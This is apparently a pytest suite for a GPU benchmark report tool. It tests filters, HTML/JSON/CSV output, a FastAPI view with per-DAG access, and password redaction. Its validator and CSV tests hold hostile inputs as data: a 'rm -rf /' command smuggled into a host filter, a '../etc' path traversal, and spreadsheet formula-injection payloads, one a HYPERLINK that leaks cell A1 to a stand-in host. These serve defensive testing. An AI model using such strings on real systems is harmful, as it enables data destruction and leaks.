"""The report (fleetbench.report): queries on a SQLite warehouse, the HTML and its plots, the CLI, the
view's FastAPI app, the DAG's report step. Expected numbers come from the warehouse rows
(`fetch_results`), not from the report's own queries."""

from __future__ import annotations

import json
import re
import statistics
from datetime import datetime, timezone
from html.parser import HTMLParser
from pathlib import Path

import pytest

from browser.fleet_history import NEW_DRIVER, NIGHTS, OLD_DRIVER, nightly_rows, run_id, run_row, store_history
from warehouse_rows import result_row
from warehouse_rows import run_row as plain_run_row


# -- helpers ---------------------------------------------------------------------------------------
class Page(HTMLParser):
    """Tables (id -> rows of {data-col: (text, data-value)}), plots (id -> {series label: [data-value]}), notes."""

    def __init__(self, html: str):
        super().__init__()
        self.tables: dict[str, list[dict]] = {}
        self.plots: dict[str, dict[str, list[float]]] = {}
        self.markers: dict[str, list[str]] = {}
        self.notes: list[str] = []
        self.empties: list[str] = []
        self.tags: set[str] = set()
        self.attrs_seen: list[dict] = []
        self._table = self._row = self._cell = self._plot = self._series = None
        self._text: list[str] = []
        self._in_note = False
        self.state = None
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        self.tags.add(tag)
        self.attrs_seen.append(a)
        if tag == "div" and a.get("id") == "meta":
            self.state = a.get("data-state")
        if tag == "table" and "data" in (a.get("class") or ""):
            self._table = self.tables.setdefault(a["id"], [])
        elif tag == "tr" and self._table is not None and self._cell is None:
            self._row = {}
        elif tag == "td" and self._row is not None:
            self._cell = (a.get("data-col"), float(a["data-value"]) if "data-value" in a else None)
            self._text = []
        elif tag == "svg" and "plot" in (a.get("class") or ""):
            self._plot = self.plots.setdefault(a["id"].removeprefix("plot-"), {})
            self.markers[a["id"].removeprefix("plot-")] = []
        elif tag == "g" and self._plot is not None and a.get("class") == "series":
            self._series = self._plot.setdefault(a["data-label"], [])
        elif tag == "g" and self._plot is not None and a.get("class") == "marker":
            self.markers[next(reversed(self.markers))].append(a["data-label"])
        elif tag in ("circle", "rect") and self._series is not None and "data-value" in a:
            self._series.append(float(a["data-value"]))
        elif tag == "li":
            self._in_note, self._text = True, []
        elif tag == "p" and "empty" in (a.get("class") or ""):
            self.empties.append(a.get("id"))

    def handle_endtag(self, tag):
        if tag == "td" and self._cell is not None:
            col, value = self._cell
            self._row[col] = ("".join(self._text).strip(), value)
            self._cell = None
        elif tag == "tr" and self._row is not None and self._table is not None:
            if self._row:
                self._table.append(self._row)
            self._row = None
        elif tag == "table":
            self._table = None
        elif tag == "g":
            self._series = None
        elif tag == "svg":
            self._plot = None
        elif tag == "li" and self._in_note:
            self.notes.append("".join(self._text).strip())
            self._in_note = False

    def handle_data(self, data):
        self._text.append(data)


@pytest.fixture()
def engine(data_dir):
    from fleetbench.warehouse import get_engine

    eng = get_engine()
    yield eng
    eng.dispose()


@pytest.fixture()
def history(engine):
    store_history(engine)
    return engine


def report_of(engine, **filters):
    from fleetbench.report import build_report, parse_filters

    return build_report(engine, parse_filters(**filters))


def written_page(tmp_path, engine, **filters) -> tuple[dict, Page]:
    from fleetbench.report import parse_filters, write_report

    written = write_report(tmp_path / "out", parse_filters(**filters), engine=engine)
    return written, Page(Path(written["html"]).read_text())


def ok_rows(engine, **where) -> list[dict]:
    from fleetbench.warehouse import fetch_results

    return [r for r in fetch_results(engine) if r["status"] == "ok" and all(r[k] == v for k, v in where.items())]


# -- filters ---------------------------------------------------------------------------------------
def test_filters_parse_iso_dates_as_whole_utc_days():
    from fleetbench.report import parse_filters

    f = parse_filters(since="2026-11-01", until="2026-11-03", host="gpu-a", model="resnet50", dag_id="fleet_benchmark")
    assert f.since == datetime(2026, 11, 1, tzinfo=timezone.utc)
    assert f.until == datetime(2026, 11, 4, tzinfo=timezone.utc)  # the whole last day
    f = parse_filters(since="2026-11-01T02:00:00+01:00", until="2026-11-02T00:00:00")
    assert f.since == datetime(2026, 11, 1, 1, tzinfo=timezone.utc)
    assert f.until == datetime(2026, 11, 2, tzinfo=timezone.utc)
    assert parse_filters(since="", host=" ", model=None) == parse_filters()  # empty form fields mean "all"


@pytest.mark.parametrize("kwargs, field, text", [
    ({"since": "yesterday"}, "since", "expected an ISO date"),
    ({"since": "20261101"}, "since", "expected an ISO date"),
    ({"until": "2026-02-30"}, "until", "not a valid date"),
    ({"since": "2026-11-05", "until": "2026-11-01"}, "since", "is not before until"),
    ({"host": "gpu-a; rm -rf /"}, "host", "is not a host name"),
    ({"model": "../etc"}, "model", "is not a model name"),
    ({"dag_id": "a b"}, "dag_id", "is not a DAG id"),
    ({"until": "9999-12-31"}, "until", "out of range"),  # the day after it is past datetime's range
    ({"since": "0001-01-01T00:00+01:00"}, "since", "out of range in UTC"),
    ({"until": "9999-12-31T23:59-05:00"}, "until", "out of range in UTC"),
])
def test_bad_filters_name_the_field(kwargs, field, text):
    from fleetbench.report import FilterError, parse_filters

    with pytest.raises(FilterError) as exc:
        parse_filters(**kwargs)
    assert exc.value.field == field and text in str(exc.value)


# -- empty and odd states --------------------------------------------------------------------------
def test_warehouse_without_tables(engine, tmp_path):
    written, page = written_page(tmp_path, engine)
    assert written["state"] == page.state == "no_tables"
    assert written["plots"] == [] and page.plots == {} and page.tables == {}
    assert any("No results yet" in n for n in page.notes)
    from sqlalchemy import inspect

    assert inspect(engine).get_table_names() == []  # reading never creates the schema


@pytest.mark.filterwarnings("ignore:Query string argument")  # pysqlite ignores them: only the display matters here
def test_the_report_names_its_warehouse_without_its_secrets(tmp_path):
    """report.html and report.json say which warehouse they read: never with a password, in the URL's user part or
    its query (libpq's password= / sslpassword=)."""
    from fleetbench.warehouse import get_engine

    engine = get_engine(f"sqlite:///{tmp_path}/w.db?password=s3cret&sslpassword=k3y")
    written, _ = written_page(tmp_path / "out", engine)
    html, data = Path(written["html"]).read_text(), Path(written["json"]).read_text()
    assert f"sqlite:///{tmp_path}/w.db?password=***&amp;sslpassword=***" in html
    assert "s3cret" not in html + data and "k3y" not in html + data
    engine.dispose()


def test_migrated_warehouse_without_results(engine, tmp_path):
    from fleetbench.warehouse import upgrade

    upgrade(engine)
    written, page = written_page(tmp_path, engine)
    assert page.state == "empty" and page.tables == {} and page.plots == {}
    assert json.loads(Path(written["json"]).read_text())["summary"]["results"] == 0


def test_one_run_only(engine, tmp_path):
    from fleetbench.warehouse import store_run, upgrade

    upgrade(engine)
    rows = nightly_rows(0)
    store_run(engine, run_row(0, rows), [], rows)
    written, page = written_page(tmp_path, engine)
    assert page.state == "ok"
    assert any(n.startswith("Only one run so far") for n in page.notes)
    # every series of the throughput plot is one point: that night's images/sec
    resnet = model_plots(page, "resnet50")
    expected = {f"{r['host']} · {r['case_key']}": [r["images_per_sec"]] for r in ok_rows(engine, model="resnet50")}
    assert resnet == expected
    assert all(page.markers[k] == [] for k in page.plots if k.startswith("throughput-"))  # one night: no change
    assert all(r["previous"] == ("–", None) and r["change_pct"] == ("–", None) for r in page.tables["throughput-table"])
    assert "regressions-table-empty" in page.empties
    assert Path(written["plots"][0]).read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


def test_host_with_only_failures(engine, tmp_path):
    from fleetbench.warehouse import store_run, upgrade

    upgrade(engine)
    rows = [result_row("c1", host="sick", ips=None, status="failed", failure_class="gpu_oom"),
            result_row("c2", host="sick", ips=None, status="failed", failure_class="nonzero_exit"),
            result_row("c3", host="sick", ips=None, status="skipped", failure_class="host_unfit")]
    store_run(engine, plain_run_row("r1"), [], rows)
    written, page = written_page(tmp_path, engine)
    assert page.state == "ok"
    assert any(n.startswith("Host sick has no ok result") and "2 failed, 1 skipped" in n for n in page.notes)
    assert [(r["host"][0], r["ok"][1], r["failed"][1], r["skipped"][1]) for r in page.tables["hosts-table"]] == [
        ("sick", 0, 2, 1)]
    assert "throughput-table-empty" in page.empties and not any(p.startswith("throughput") for p in page.plots)
    failures = {r["failure_class"][0]: (r["status"][0], r["count"][1], r["hosts_text"][0])
                for r in page.tables["failures-table"]}
    assert failures == {"gpu_oom": ("failed", 1, "sick ×1"), "nonzero_exit": ("failed", 1, "sick ×1"),
                        "host_unfit": ("skipped", 1, "sick ×1")}
    assert sorted(page.plots["failures"]["cases"]) == [1.0, 1.0, 1.0]
    assert [Path(p).name for p in written["plots"]] == ["plot-failures.png"]


def model_plots(page, model: str) -> dict[str, list]:
    """The throughput series of a model's charts, merged; each chart holds one GPU count (its id's _gN, the
    case keys' .gN.)."""
    out = {}
    for chart, series in page.plots.items():
        if chart.startswith(f"throughput-{model}_g"):
            gpus = chart.rsplit("_g", 1)[1]
            assert series and all(f".g{gpus}." in label for label in series), (chart, list(series))
            out.update(series)
    return out


# -- several nights with a driver change --------------------------------------------------------------
def test_history_report_shows_the_warehouse_numbers(history, tmp_path):
    written, page = written_page(tmp_path, history)
    assert page.state == "ok"
    all_rows = ok_rows(history)
    # throughput table: the newest ok images/sec of every (host, case), and the previous night's
    table = {(r["host"][0], r["case_key"][0]): r for r in page.tables["throughput-table"]}
    by_case: dict[tuple, list[dict]] = {}
    for r in sorted(all_rows, key=lambda r: r["logical_date"]):
        by_case.setdefault((r["host"], r["case_key"]), []).append(r)
    assert set(table) == set(by_case)
    for key, rows in by_case.items():
        assert table[key]["latest"][1] == rows[-1]["images_per_sec"]
        assert table[key]["previous"][1] == rows[-2]["images_per_sec"]
        assert table[key]["n"][1] == len(rows)
        assert table[key]["latest_driver"][0] == rows[-1]["driver_version"]
        assert table[key]["latest"][0] == f"{rows[-1]['images_per_sec']:,.2f}"
    # the throughput plot: one series per host and case, every night's value in order
    for model in ("resnet50", "vgg16"):
        assert model_plots(page, model) == {
            f"{h} · {c}": [r["images_per_sec"] for r in rows]
            for (h, c), rows in by_case.items() if rows[0]["model"] == model}
        for chart in (k for k in page.plots if k.startswith(f"throughput-{model}_g")):
            assert page.markers[chart] == [f"gpu-a: driver {OLD_DRIVER} → {NEW_DRIVER}"]
    # the driver change, on the night it happened
    assert [(r["logical_date"][0], r["host"][0], r["from"][0], r["to"][0])
            for r in page.tables["driver-changes-table"]] == [("2026-11-04 02:00", "gpu-a", OLD_DRIVER, NEW_DRIVER)]
    # scaling efficiency per GPU count: the mean of the rows' speedup_efficiency (1-GPU rows are the reference)
    scaling = {(r["model"][0], int(r["num_gpus"][1])): r["mean"][1] for r in page.tables["scaling-table"]}
    expected = {}
    for r in all_rows:
        if r["num_gpus"] >= 2 and r["speedup_efficiency"] is not None:
            expected.setdefault((r["model"], r["num_gpus"]), []).append(r["speedup_efficiency"])
    assert scaling.keys() == expected.keys() == {("resnet50", 2), ("resnet50", 4)}
    for k, v in expected.items():
        assert scaling[k] == pytest.approx(statistics.fmean(v), rel=1e-12)
    assert page.plots["scaling"] == {"resnet50": [pytest.approx(statistics.fmean(expected[("resnet50", 2)])),
                                                  pytest.approx(statistics.fmean(expected[("resnet50", 4)]))]}
    # images per joule and cost per million images per GPU model (catalog name) and model
    eff = {(r["gpu"][0], r["model"][0]): r for r in page.tables["efficiency-table"]}
    groups: dict[tuple, list[dict]] = {}
    for r in all_rows:
        groups.setdefault((r["gpu_catalog_name"], r["model"]), []).append(r)
    assert eff.keys() == groups.keys()
    for k, rows in groups.items():
        assert eff[k]["images_per_joule"][1] == pytest.approx(statistics.fmean(r["images_per_joule"] for r in rows))
        assert eff[k]["cost_per_million_images_usd"][1] == pytest.approx(
            statistics.fmean(r["cost_per_million_images_usd"] for r in rows))
        assert eff[k]["n"][1] == len(rows) and eff[k]["estimated"][1] == len(rows)
    # the latest run's failures by class
    failures = {r["failure_class"][0]: (r["count"][1], r["hosts_text"][0]) for r in page.tables["failures-table"]}
    assert failures == {"gpu_oom": (1, "gpu-c ×1"), "nonzero_exit": (1, "gpu-c ×1"), "timeout": (1, "gpu-b ×1")}
    # open regressions: night 5's 1-GPU finding; night 4's 2-GPU one recovered on night 5
    regs = page.tables["regressions-table"]
    assert [(r["host"][0], r["case"][0], r["metric"][0], r["logical_date"][0]) for r in regs] == [
        ("gpu-a", "tf.resnet50.bs64.g1.replicated", "images_per_sec ↑", "2026-11-05 02:00")]
    assert regs[0]["value"][1] == pytest.approx(400.0 * 0.88 + 4) and regs[0]["baseline_value"][1] == 401.5
    assert f"driver_version {OLD_DRIVER} → {NEW_DRIVER}" in regs[0]["changes_text"][0]
    # the host with only failures
    hosts = {r["host"][0]: r for r in page.tables["hosts-table"]}
    assert hosts["gpu-c"]["ok"][1] == 0 and hosts["gpu-c"]["failed"][1] == 10
    assert any(n.startswith("Host gpu-c has no ok result") for n in page.notes)
    # files: one PNG per plot, the JSON with the same data
    assert sorted(Path(p).name for p in written["plots"]) == sorted(f"plot-{k}.png" for k in page.plots)
    data = json.loads(Path(written["json"]).read_text())
    assert data["summary"] == {"runs": 5, "results": 36, "ok": 25, "failed": 11, "skipped": 0, "hosts": 3, "models": 2,
                               "first": NIGHTS[0].isoformat(), "last": NIGHTS[4].isoformat()}


def test_report_is_self_contained(history, tmp_path):
    _, page = written_page(tmp_path, history)
    assert "script" not in page.tags and "link" not in page.tags and "img" not in page.tags
    for attrs in page.attrs_seen:
        for name in ("src", "href"):
            value = attrs.get(name) or ""
            assert not value.startswith(("http:", "https:", "//")), attrs


def test_filters_narrow_every_section(history, tmp_path):
    _, page = written_page(tmp_path, history, host="gpu-a", model="resnet50", since="2026-11-04")
    assert {(r["host"][0], r["model"][0]) for r in page.tables["throughput-table"]} == {("gpu-a", "resnet50")}
    assert set(page.plots) == {"throughput-resnet50_g1", "throughput-resnet50_g2", "throughput-resnet50_g4", "scaling",
                               "images-per-joule", "cost-per-million"}
    assert all(len(v) == 2 for v in model_plots(page, "resnet50").values())  # nights 4 and 5
    # the driver change on the window's first night is still found (the night before lies outside)
    assert [r["logical_date"][0] for r in page.tables["driver-changes-table"]] == ["2026-11-04 02:00"]
    assert "failures-table-empty" in page.empties  # gpu-a's resnet50 cases all ran
    rep = report_of(history, until="2026-11-03")
    assert rep["window"]["until"] == "2026-11-04T00:00:00+00:00"
    assert rep["summary"]["runs"] == 3 and rep["driver_changes"] == [] and rep["regressions"] == []
    assert rep["latest_run"]["run_id"] == run_id(2)
    # as of night 4, night 4's findings were open (both of them)
    rep = report_of(history, until="2026-11-04")
    assert sorted(r["case_key"] for r in rep["regressions"]) == ["tf.resnet50.bs64.g1.replicated",
                                                                 "tf.resnet50.bs64.g2.replicated"]
    rep = report_of(history, host="nobody")
    assert rep["state"] == "no_match" and rep["hosts"] == []


def test_default_window_is_the_last_30_days_with_results(history):
    from fleetbench.warehouse import store_run

    old = [result_row("old", run_id="r-old", host="gpu-a", logical_date="2026-09-01T02:00:00+00:00")]
    store_run(history, {**run_row(0, old), "run_id": "r-old", "logical_date": "2026-09-01T02:00:00+00:00"}, [], old)
    rep = report_of(history)
    assert rep["window"] == {"since": "2026-10-07T00:00:00+00:00", "until": None, "defaulted": True}
    assert rep["summary"]["runs"] == 5  # September's run is outside
    assert report_of(history, since="2026-09-01")["summary"]["runs"] == 6


def test_stale_pngs_are_removed(history, tmp_path):
    from fleetbench.report import parse_filters, write_report

    out = tmp_path / "out"
    first = write_report(out, engine=history)
    (out / "notes.txt").write_text("mine")
    second = write_report(out, parse_filters(model="vgg16"), engine=history)
    assert len(first["plots"]) > len(second["plots"])
    assert sorted(p.name for p in out.glob("*.png")) == sorted(Path(p).name for p in second["plots"])
    assert (out / "notes.txt").read_text() == "mine"  # only its own files are touched
    assert not list(out.glob(".*"))  # no temporary files left


def test_reports_written_into_one_folder_at_once_all_succeed(history, tmp_path, monkeypatch):
    """Two operators (or a cron job and a manual run) writing reports into the default folder at once: each PNG went
    through one fixed temporary name, and a report failed on the other's rename. (Each plot is held a moment after
    it is drawn, so the reports' writes overlap.)"""
    import time
    from concurrent.futures import ThreadPoolExecutor

    from fleetbench.report import plots, write_report

    draw = plots.to_png

    def slow(chart, path):
        draw(chart, path)
        time.sleep(0.05)

    monkeypatch.setattr(plots, "to_png", slow)

    out = tmp_path / "out"
    with ThreadPoolExecutor(4) as pool:
        written = list(pool.map(lambda _: write_report(out, engine=history), range(4)))
    assert all(w["plots"] for w in written)
    assert not list(out.glob(".*"))


def test_warehouse_older_than_the_report(engine, tmp_path):
    from fleetbench.warehouse import upgrade

    upgrade(engine, "0002")  # before the derived metrics and the regressions table
    written, page = written_page(tmp_path, engine)
    assert page.state == "outdated" and page.tables == {}
    assert any("fleetbench db upgrade" in n for n in page.notes)


# -- CLI -------------------------------------------------------------------------------------------
def test_cli_report_writes_files_and_exit_codes(history, data_dir, tmp_path, capsys):
    from fleetbench.cli import main

    assert main(["report", "--out", str(tmp_path / "r"), "--since", "2026-11-01", "--host", "gpu-a"]) == 0
    out = capsys.readouterr().out
    assert out.splitlines()[0] == str(tmp_path / "r" / "report.html")
    assert "20 result(s) of 5 run(s) on 1 host(s)" in out
    assert main(["report"]) == 0  # default folder: <data dir>/reports
    assert (data_dir / "reports" / "report.html").is_file()
    capsys.readouterr()

    assert main(["report", "--since", "last-week"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("fleetbench report: --since: expected an ISO date (YYYY-MM-DD)") and "last-week" in err
    assert len(err.strip().splitlines()) == 1
    assert main(["report", "--since", "2026-11-05", "--until", "2026-11-01"]) == 2
    assert "--since: 2026-11-05 is not before until 2026-11-01" in capsys.readouterr().err
    assert main(["report", "--dag-id", "no such"]) == 2
    assert "--dag-id:" in capsys.readouterr().err
    (tmp_path / "file").write_text("x")
    assert main(["report", "--out", str(tmp_path / "file")]) == 2
    assert "exists and is not a folder" in capsys.readouterr().err


def test_cli_report_on_an_empty_warehouse_and_a_dead_one(data_dir, tmp_path, capsys, monkeypatch):
    from fleetbench.cli import main

    assert main(["report", "--out", str(tmp_path / "r")]) == 2  # no warehouse file yet: said, none created
    assert "no warehouse at " in capsys.readouterr().err and not (tmp_path / "warehouse.db").exists()
    from fleetbench.warehouse import get_engine, upgrade

    upgrade(get_engine())  # a warehouse with nothing stored
    assert main(["report", "--out", str(tmp_path / "r")]) == 0
    assert "note: No results yet" in capsys.readouterr().out
    monkeypatch.setenv("FLEETBENCH_WAREHOUSE_URL", "postgresql+psycopg2://u:s3cret@127.0.0.1:1/none")
    assert main(["report", "--out", str(tmp_path / "r")]) == 2
    err = capsys.readouterr().err
    assert "cannot read the warehouse at postgresql+psycopg2://u:***@127.0.0.1:1/none" in err and "s3cret" not in err


# -- the view's app ------------------------------------------------------------------------------------
@pytest.fixture()
def client(history):
    from fastapi.testclient import TestClient

    from fleetbench.report.web import create_app

    with TestClient(create_app(engine_factory=lambda: history)) as c:
        yield c


def test_view_shows_the_report_with_a_filter_form(client, history):
    resp = client.get("/", params={"host": "gpu-a", "since": "2026-11-02"})
    assert resp.status_code == 200 and resp.headers["content-type"].startswith("text/html")
    page = Page(resp.text)
    assert {r["host"][0] for r in page.tables["throughput-table"]} == {"gpu-a"}
    assert '<form class="filters"' in resp.text and '<option value="gpu-a" selected>' in resp.text
    assert 'value="2026-11-02"' in resp.text
    assert "from the sqlite warehouse" in resp.text and "warehouse.db" not in resp.text  # no paths or hosts shown
    data = client.get("/report.json", params={"host": "gpu-a"}).json()
    assert data["filters"]["host"] == "gpu-a" and data["summary"]["results"] == 20
    # a moment in the URL stays that moment in the form (cut to its day, Apply widened it to the whole day)
    moment = client.get("/", params={"until": "2026-11-05T02:00:00+00:00"}).text
    assert '<input type="text" name="until" value="2026-11-05T02:00:00+00:00">' in moment
    assert '<input type="date" name="since" value="">' in moment


@pytest.mark.parametrize("query, field", [
    ("host=a;b", "host"), ("since=tomorrow", "since"), ("hots=gpu-a", "hots"), ("host=gpu-a&host=gpu-b", "host"),
    ("until=2026-13-01", "until"), ("model=" + "m" * 300, "model"), ("until=9999-12-31", "until"),
])
def test_view_refuses_bad_filters_with_400(client, query, field):
    resp = client.get("/report.json?" + query)
    assert resp.status_code == 400
    assert resp.json()["field"] == field and resp.json()["detail"].startswith(f"bad filter: {field}:")
    page = client.get("/?" + query)
    assert page.status_code == 400 and f"Bad filter: {field}:" in page.text and '<form class="filters"' in page.text


def test_view_answers_503_when_the_warehouse_is_down(caplog):
    """The answer names the problem only; the address, port and user go to the log, the password nowhere."""
    from fastapi.testclient import TestClient

    from fleetbench.report.web import create_app
    from fleetbench.warehouse import get_engine

    app = create_app(engine_factory=lambda: get_engine("postgresql+psycopg2://fbreader:s3cret@127.0.0.1:59999/none"))
    with TestClient(app) as c, caplog.at_level("WARNING", logger="fleetbench.report.web"):
        resp = c.get("/report.json")
        page = c.get("/")
        download = c.get("/throughput.csv")
    for text in (resp.text, page.text, download.text):
        assert not [s for s in ("127.0.0.1", "59999", "fbreader", "s3cret", "psycopg2", "Connection refused")
                    if s in text]
    assert resp.status_code == 503 and resp.json()["detail"].startswith("The warehouse is not reachable")
    assert page.status_code == 503 and "The warehouse is not reachable" in page.text
    assert download.status_code == 503 and download.json() == resp.json()
    logged = caplog.text
    assert "postgresql+psycopg2://fbreader:***@127.0.0.1:59999/none" in logged and "Connection refused" in logged
    assert "s3cret" not in logged


def test_warehouse_errors_are_logged_without_the_password(caplog):
    """A driver message that repeats the password is logged with it redacted; other errors say "could not be read"."""
    from sqlalchemy.exc import OperationalError, ProgrammingError

    from fleetbench.report.web import UNREADABLE, warehouse_error
    from fleetbench.warehouse import get_engine

    engine = get_engine("postgresql+psycopg2://fbreader:s3cret@db.example:5432/fleet")
    with caplog.at_level("WARNING", logger="fleetbench.report.web"):
        exc = warehouse_error(engine, OperationalError("connect", {},
                                                       Exception("invalid dsn: password=s3cret host=db")))
        other = warehouse_error(engine, ProgrammingError("SELECT 1", {}, Exception('relation "x" does not exist')))
    assert exc.status_code == other.status_code == 503
    assert other.detail == UNREADABLE and "db.example" not in exc.detail + other.detail
    assert "invalid dsn: password=*** host=db" in caplog.text and "fbreader:***@db.example:5432" in caplog.text
    assert "s3cret" not in caplog.text
    engine.dispose()
    caplog.clear()  # a key's passphrase given as a query parameter (libpq's sslpassword)
    engine = get_engine("postgresql://fbreader@db.example/fleet?sslmode=require&sslpassword=k3y-pass")
    with caplog.at_level("WARNING", logger="fleetbench.report.web"):
        warehouse_error(engine, OperationalError("connect", {}, Exception("could not read key k3y-pass")))
    assert "fleet?sslmode=require&sslpassword=***" in caplog.text and "could not read key ***" in caplog.text
    assert "k3y-pass" not in caplog.text
    engine.dispose()


# -- who sees what: the view shows only the DAGs the reader may read ------------------------------------------
def _options(html: str) -> dict[str, list[str]]:
    """The filter form's drop-downs: select name -> option values (without "all")."""
    import re

    return {name: [v for v in re.findall(r'<option value="([^"]*)"', body) if v]
            for name, body in re.findall(r'<select name="(\w+)">(.*?)</select>', html)}


@pytest.fixture()
def two_dags(history):
    from browser.private_history import store_private_history

    store_private_history(history)
    return history


def _client(engine, readable=None):
    from fastapi.testclient import TestClient

    from fleetbench.report.web import create_app

    return TestClient(create_app(engine_factory=lambda: engine, readable_dags=lambda: readable))


def _sections(report: dict) -> dict:
    return {k: v for k, v in report.items() if k not in ("generated_at", "filters", "options", "warehouse")}


def test_view_shows_only_the_dags_the_reader_may_read(two_dags):
    from browser.private_history import DAG, HOST, MODEL, secrets_in

    with _client(two_dags) as everyone:  # without a restriction the other DAG's results are there
        page = everyone.get("/").text
        assert _options(page) == {"host": sorted(["gpu-a", "gpu-b", "gpu-c", HOST]),
                                  "model": sorted(["resnet50", "vgg16", MODEL]),
                                  "dag_id": sorted(["fleet_benchmark", DAG])}
        assert secrets_in(page) and secrets_in(everyone.get("/throughput.csv").text)
    with _client(two_dags, frozenset({"fleet_benchmark", "not_in_the_warehouse"})) as reader:
        resp = reader.get("/")
        assert resp.status_code == 200 and secrets_in(resp.text) == []
        assert _options(resp.text) == {"host": ["gpu-a", "gpu-b", "gpu-c"], "model": ["resnet50", "vgg16"]}
        page = Page(resp.text)
        assert not [label for plot in page.plots.values() for label in plot if HOST in label]
        data = reader.get("/report.json")
        assert secrets_in(data.text) == []
        assert data.json()["options"] == {"hosts": ["gpu-a", "gpu-b", "gpu-c"], "models": ["resnet50", "vgg16"],
                                          "dag_ids": ["fleet_benchmark"]}
        # every section (window, runs, latest run, regressions, ...) is what fleet_benchmark alone has
        assert _sections(data.json()) == _sections(report_of(two_dags, dag_id="fleet_benchmark"))
        download = reader.get("/throughput.csv")
        assert download.status_code == 200 and secrets_in(download.text) == []
        assert {r["dag_id"] for r in csv_rows(download.text)} == {"fleet_benchmark"}
        # asking for the other DAG's results, its host or its model finds nothing (the answer repeats the question)
        for field, value in (("dag_id", DAG), ("host", HOST), ("model", MODEL)):
            resp = reader.get("/report.json", params={field: value})
            assert resp.json()["state"] == "no_match" and secrets_in(resp.text) == [value]
            assert secrets_in(reader.get("/", params={field: value}).text) == [value]
            assert csv_rows(reader.get("/throughput.csv", params={field: value}).text) == []
    with _client(two_dags, frozenset()) as nobody:
        resp = nobody.get("/")
        assert Page(resp.text).state == "empty" and secrets_in(resp.text) == [] and "fleet_benchmark" not in resp.text
        assert nobody.get("/report.json").json()["options"] == {"hosts": [], "models": [], "dag_ids": []}
        assert csv_rows(nobody.get("/throughput.csv").text) == []


# -- the CSV download ----------------------------------------------------------------------------------------
def csv_rows(text: str) -> list[dict]:
    import csv
    import io

    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted():
    import csv
    import io

    from fleetbench.report.render import CSV_POINT_COLUMNS, CSV_SERIES_COLUMNS, csv_cell, render_csv

    for text in ("=1+2", "+cmd", "-2+3", "@SUM(A1:A9)", "\tx", "\r=x"):
        assert csv_cell(text) == "'" + text
    for value in (-3.5, -1, 0, 2.25, None, "gpu-a", "535.104.05", "a=b", " =x", "'quoted"):
        assert csv_cell(value) == value  # numbers (negative ones too) stay numbers; only leading characters count
    report = {"throughput": [{
        "model": "resnet50", "host": "=HYPERLINK(\"http://x.invalid/\",\"open\")", "case_key": "+tf.resnet50",
        "gpu": None, "num_gpus": 1, "batch_size_per_device": 64,
        "points": [{"dag_id": "-fleet", "run_id": "@run", "logical_date": "2026-11-01T02:00:00+00:00",
                    "images_per_sec": -3.5, "driver_version": "\t=1+1"},
                   {"dag_id": "fleet", "run_id": "\r=2", "logical_date": "2026-11-02T02:00:00+00:00",
                    "images_per_sec": 401.25, "driver_version": "550.54.15"}]}]}
    text = render_csv(report)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == list(CSV_SERIES_COLUMNS + CSV_POINT_COLUMNS)
    first, second = (dict(zip(rows[0], r)) for r in rows[1:])
    assert first["host"] == "'=HYPERLINK(\"http://x.invalid/\",\"open\")" and first["case_key"] == "'+tf.resnet50"
    assert first["dag_id"] == "'-fleet" and first["run_id"] == "'@run" and first["driver_version"] == "'\t=1+1"
    assert first["images_per_sec"] == "-3.5" and first["num_gpus"] == "1" and first["gpu"] == "" and first["min"] == ""
    assert second["run_id"] == "'\r=2" and second["images_per_sec"] == "401.25" and second["dag_id"] == "fleet"
    assert text.endswith("\r\n") and len(rows) == 3


def test_view_csv_has_the_warehouse_numbers_and_quotes_formulas(engine):
    """A driver version and a run id that a spreadsheet would run arrive quoted; the numbers as numbers."""
    from fleetbench.warehouse import store_run, upgrade

    upgrade(engine)
    evil_driver, evil_run = '=HYPERLINK("http://x.invalid/?"&A1,"driver")', "+manual__1"
    rows = [result_row("c1", run_id=evil_run, host="gpu-a", ips=401.5, driver_version=evil_driver),
            result_row("c2", run_id=evil_run, host="gpu-a", ips=99.25, driver_version="550.54.15")]
    store_run(engine, plain_run_row(evil_run), [], rows)
    with _client(engine) as c:
        resp = c.get("/throughput.csv", params={"host": "gpu-a"})
        page = c.get("/", params={"host": "gpu-a"})
    assert resp.status_code == 200 and resp.headers["content-type"] == "text/csv; charset=utf-8"
    assert resp.headers["content-disposition"] == 'attachment; filename="fleetbench-throughput.csv"'
    got = {r["case_key"]: r for r in csv_rows(resp.text)}
    assert got["c1"]["driver_version"] == "'" + evil_driver and got["c1"]["run_id"] == "'" + evil_run
    assert got["c2"]["driver_version"] == "550.54.15"
    assert {k: float(r["images_per_sec"]) for k, r in got.items()} == {"c1": 401.5, "c2": 99.25}
    assert '<a id="csv" href="throughput.csv?host=gpu-a">' in page.text  # the page links its filtered CSV


def test_view_csv_is_the_throughput_plots_points(client, history):
    resp = client.get("/throughput.csv", params={"since": "2026-11-04"})
    got = sorted((r["host"], r["case_key"], r["run_id"], float(r["images_per_sec"])) for r in csv_rows(resp.text))
    assert got == sorted((r["host"], r["case_key"], r["run_id"], r["images_per_sec"]) for r in ok_rows(history)
                         if r["logical_date"] >= "2026-11-04")
    assert client.get("/throughput.csv?hots=gpu-a").status_code == 400


def test_view_on_an_empty_warehouse(engine):
    from fastapi.testclient import TestClient

    from fleetbench.report.web import create_app

    with TestClient(create_app(engine_factory=lambda: engine)) as c:
        resp = c.get("/")
    assert resp.status_code == 200 and Page(resp.text).state == "no_tables"


# -- the DAG's report step --------------------------------------------------------------------------------
def test_pipeline_report_writes_into_the_data_dir(history, data_dir):
    from fleetbench.airflow.pipeline import write_report

    plan = {"run": {"dag_id": "fleet_benchmark", "run_id": run_id(4)}, "hosts": [], "cases": []}
    stored = {"run_id": run_id(4), "total": 8, "ok": 5, "failed": 3, "skipped": 0}
    summary = write_report(plan, stored)
    assert summary == {"dag_id": "fleet_benchmark", "run_id": run_id(4),
                       "report": str(data_dir / "reports" / "report.html"),
                       "state": "ok", "total": 8, "ok": 5, "failed": 3, "skipped": 0}
    assert json.dumps(summary)  # the asset event's extra must be JSON
    # its plots are the page's own SVG as files (no matplotlib in the nightly run); a PNG of an earlier
    # `fleetbench report` into the same folder goes, so the folder is one report
    import xml.etree.ElementTree as ET

    from fleetbench.report.queries import parse_filters

    out = data_dir / "reports"
    svgs = sorted(out.glob("plot-*.svg"))
    assert svgs and not list(out.glob("plot-*.png"))
